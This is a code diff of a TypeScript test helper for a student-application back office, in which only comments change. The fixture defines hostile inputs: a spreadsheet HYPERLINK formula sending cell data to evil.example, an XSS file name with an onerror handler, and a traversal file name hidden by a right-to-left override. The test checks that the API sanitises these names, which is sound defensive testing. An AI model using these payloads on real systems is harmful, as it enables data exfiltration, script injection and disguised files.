@@ -5,13 +5,13 @@ import { bearer, logIn, verifiedAccount } from './accounts-browser.ts';
 import { pdf, png } from './applications.ts';
 import { apply, pdfFile } from './applications-browser.ts';
 
-/** Cases as staff work them in the back office. */
+/** Helpers for cases in the back office. */
 
 const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")';
 export const TRANSCRIPT = pdf(20_000);
-/** A name that would be markup, and one that would read backwards and lie elsewhere. */
+/** A file name that contains markup, and one with a path and a right-to-left override. */
 const NAMES = { picture: '<img src=x onerror=alert(1)>.png', pdf: '../../transcript\u202Egpj.pdf' };
-/** As the API keeps them. */
+/** The same names as the API stores them. */
 export const KEPT = { picture: '_img src=x onerror=alert(1)_.png', pdf: 'transcriptgpj.pdf' };
 
 /** A student who has applied with a picture and a PDF. */
@@ -30,7 +30,7 @@ export async function newCase(page: Page) {
       mimeType: 'image/png',
       buffer: await picture.png().toBuffer(),
     },
-    // The beginning of a picture, and then noise.
+    // A picture header followed by random bytes.
     'additional_documents[0][file]': { name: 'damaged.png', mimeType: 'image/png', buffer: png() },
     'academic_documents[0][file]': { name: NAMES.pdf, mimeType: 'application/pdf', buffer: TRANSCRIPT },
   });
